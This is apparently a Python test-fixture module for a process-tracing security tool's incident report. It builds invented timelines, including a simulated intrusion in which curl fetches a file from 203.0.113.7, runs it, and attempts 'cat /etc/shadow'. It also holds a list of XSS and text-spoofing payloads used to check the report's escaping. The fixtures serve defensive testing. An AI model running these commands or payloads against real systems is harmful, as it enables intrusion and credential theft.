# SPDX-License-Identifier: Apache-2.0
"""Invented incidents in the dataclasses of the store's answers, for the report's tests."""

from __future__ import annotations

import base64
from typing import Any

from agent.log.times import format_time
from agent.store.answers import Completeness, Happening, Process, Timeline, Tree
from agent.store.report.facts import Facts

START_NS = 1_767_225_600_000_000_000
"""2026-01-01T00:00:00Z."""
MS = 1_000_000
FACTS = Facts(
    version="0.1.0",
    made_ns=START_NS + 3_600_000 * MS,
    made_by="carol@bastion",
    node="n1",
    kernel="6.12.57",
    question="tracehound report --pid 4711 -o incident.html",
    title="INC-4711",
)
HOSTILE = (
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    "'\"><svg/onload=window.pwned=3>",
    "abc\u202egnp.exe",
    "nul\0byte",
    "\udcff\udcfe",
    "{{script}} <!-- ]]>",
    "line\nbreak\x1b[31m\u2028",
)


def exec_id(pid: int) -> str:
    """As the agent writes them."""
    return base64.b64encode(f"n1:{pid}000:{pid}".encode()).decode()


def process(pid: int, binary: str, at_ms: float, arguments: str = "", **more: Any) -> Process:
    """A process that began `at_ms` after START_NS."""
    fields = {"uid": 1000, "user": "alice", "cwd": "/home/alice"} | more
    return Process(exec_id(pid), pid, binary=binary, arguments=arguments, start_ns=_ns(at_ms), **fields)


def _ns(at_ms: float) -> int:
    return START_NS + round(at_ms * MS)


def happening(kind: str, of: Process, at_ms: float, sequence: int, summary: str, **more: Any) -> Happening:
    """An event of a process; `own`: what is under `tracehound`, `event`: what is beside the process."""
    own, event = more.pop("own", {}), more.pop("event", {})
    inner = {"exec_id": of.exec_id, "pid": of.pid, "binary": of.binary, "arguments": of.arguments}
    head = {"node_name": "n1", "time": format_time(_ns(at_ms)), "tracehound": {"sequence": sequence, **own}}
    record = {kind: {"process": inner, **event}, **head}
    return Happening(_ns(at_ms), sequence, kind, of.exec_id, summary, record=record, **more)


def started(of: Process, sequence: int, **own: Any) -> Happening:
    """The exec of a process."""
    at_ms = (of.start_ns - START_NS) / MS
    return happening("process_exec", of, at_ms, sequence, f"exec {of.binary} {of.arguments}", own=own)


def ended(of: Process, at_ms: float, sequence: int, status: int = 0, signal: str = "") -> Happening:
    """The exit of a process, noted in it as well."""
    of.end_ns, of.status, of.signal = _ns(at_ms), status, signal
    return happening("process_exit", of, at_ms, sequence, f"exit {signal or f'status {status}'}")


def opened(of: Process, at_ms: float, sequence: int, path: str, **more: Any) -> Happening:
    """A policy's event about a file."""
    fields = {"function": "security_file_open", "policy": "credential-file-reads", "path": path} | more
    event = {"tags": ["attack.t1003.008"], "args": [{"file_arg": {"path": path}}]}
    return happening("process_kprobe", of, at_ms, sequence, f"open {path}", event=event, **fields)


def connected(of: Process, at_ms: float, sequence: int, address: str) -> Happening:
    """A policy's event about a connection."""
    host, _, port = address.rpartition(":")
    sock = {"daddr": host.strip("[]"), "dport": int(port), "saddr": "10.0.0.5", "protocol": "IPPROTO_TCP"}
    fields = {"function": "tcp_connect", "policy": "network-connects", "address": address}
    event = {"args": [{"sock_arg": sock}]}
    return happening("process_kprobe", of, at_ms, sequence, f"connect {address}/tcp", event=event, **fields)


def detected(of: Process, at_ms: float, sequence: int, title: str, level: str = "high") -> Happening:
    """A detection, as an own record."""
    content = {"rule": "r-1", "title": title, "level": level, "tags": ["attack.t1059.004"]}
    own = {"sequence": sequence, "detection": content}
    record = {"tracehound": own, "node_name": "n1", "time": format_time(_ns(at_ms))}
    return Happening(_ns(at_ms), sequence, "detection", of.exec_id, title, record=record)


def timeline(tree: Tree, happenings: list[Happening]) -> Timeline:
    """In order of time."""
    return Timeline(tree, sorted(happenings, key=lambda one: one.time_ns))


def completeness(**more: Any) -> Completeness:
    """A log of an hour around the incident."""
    return Completeness(_ns(-1_800_000), _ns(1_800_000), **more)


def tiny() -> Timeline:
    """One process without a trace of anything else."""
    root = process(4711, "/usr/bin/true", 0)
    return timeline(Tree(root, [], completeness()), [started(root, 1), ended(root, 3, 2)])


def incident() -> Timeline:
    """A shell over SSH that fetches, runs, reads and connects; with a loss in between."""
    init = process(1, "/usr/lib/systemd/systemd", -9e8, "--system", uid=0, user="root", recorded=False)
    sshd = process(812, "/usr/sbin/sshd", -8e8, "-D", uid=0, user="root")
    root = process(4711, "/bin/bash", 0, "-i")
    curl = process(4712, "/usr/bin/curl", 2_000, "-fsSL -o /tmp/x http://203.0.113.7/x")
    tool = process(4713, "/tmp/x", 6_000, "--quiet --keep")
    sudo = process(4714, "/usr/bin/sudo", 8_000, "cat /etc/shadow", uid=0, user="root")
    cat = process(4715, "/usr/bin/cat", 8_040, "/etc/shadow", uid=0, user="root")
    root.children, tool.children, sudo.children = [curl, tool], [sudo], [cat]
    happenings = [
        started(root, 10),
        started(curl, 11),
        connected(curl, 2_100, 12, "203.0.113.7:80"),
        opened(curl, 2_300, 13, "/tmp/x", function="security_file_open", policy="temporary-files"),
        ended(curl, 2_500, 14),
        started(tool, 15),
        detected(tool, 6_010, 16, "Program started from a temporary directory"),
        connected(tool, 6_500, 17, "203.0.113.7:443"),
        connected(tool, 6_900, 18, "[2001:db8::7]:443"),
        started(
            sudo,
            19,
            binary_properties={"setuid": 0, "privileges_changed": ["PRIVILEGES_RAISED_EXEC_FILE_SETUID"]},
        ),
        started(cat, 20),
        opened(cat, 8_060, 21, "/etc/shadow", action="KPROBE_ACTION_SIGKILL"),
        ended(cat, 8_061, 22, signal="SIGKILL"),
        ended(sudo, 8_090, 23, status=1),
    ]
    happenings += [connected(tool, 9_000 + 400 * i, 24 + i, "203.0.113.7:443") for i in range(30)]
    loss = {"cause": "ring_full", "lane": "lifecycle", "hook": "exec", "count": 3}
    loss |= {"from": format_time(_ns(12_000)), "to": format_time(_ns(12_600))}
    told = completeness(losses=[loss], chain={"ok": True, "segments": 4, "head": "9f2c41d07b1e"})
    return timeline(Tree(root, [init, sshd], told), happenings)


def hostile() -> Timeline:
    """Every text of others is an attack on the page."""
    root = process(
        4711, HOSTILE[0], 0, " ".join(HOSTILE), cwd=HOSTILE[1], user=HOSTILE[2], container=HOSTILE[0]
    )
    happenings = [started(root, 1)]
    for number, text in enumerate(HOSTILE):
        child = process(5000 + number, "/tmp/" + text, number + 1, text, user=text, pod=text, namespace=text)
        root.children.append(child)
        happenings += [
            started(child, 10 * number + 2),
            opened(child, number + 1.1, 10 * number + 3, "/tmp/" + text, policy=text, function=text),
            detected(child, number + 1.2, 10 * number + 4, text, level=text),
            ended(child, number + 1.5, 10 * number + 5, signal=text),
        ]
    loss = {"cause": HOSTILE[0], "hook": HOSTILE[1], "from": HOSTILE[2], "to": HOSTILE[0]}
    told = completeness(losses=[loss], chain={"ok": True, "head": HOSTILE[0]})
    return timeline(Tree(root, [], told), happenings)


def large(count: int) -> Timeline:
    """A tree of `count` processes, five children each, with three happenings per process."""
    names = ("/usr/bin/make", "/bin/sh", "/usr/bin/gcc", "/usr/libexec/cc1", "/usr/bin/as", "/usr/bin/ld")
    root = process(10_000, "/usr/bin/make", 0, "-j16 all")
    everyone, happenings = [root], [started(root, 1)]
    for number in range(1, count):
        above = everyone[(number - 1) // 5]
        child = process(
            10_000 + number, names[number % 6], number * 3.7, f"-c unit{number}.c -o unit{number}.o"
        )
        above.children.append(child)
        everyone.append(child)
        at_ms, sequence = number * 3.7, 3 * number
        happenings += [
            started(child, sequence),
            opened(child, at_ms + 1, sequence + 1, f"/src/unit{number % 900}.c"),
            ended(child, at_ms + 40 + number % 200, sequence + 2, status=int(number % 97 == 0)),
        ]
    return timeline(Tree(root, [], completeness()), happenings)
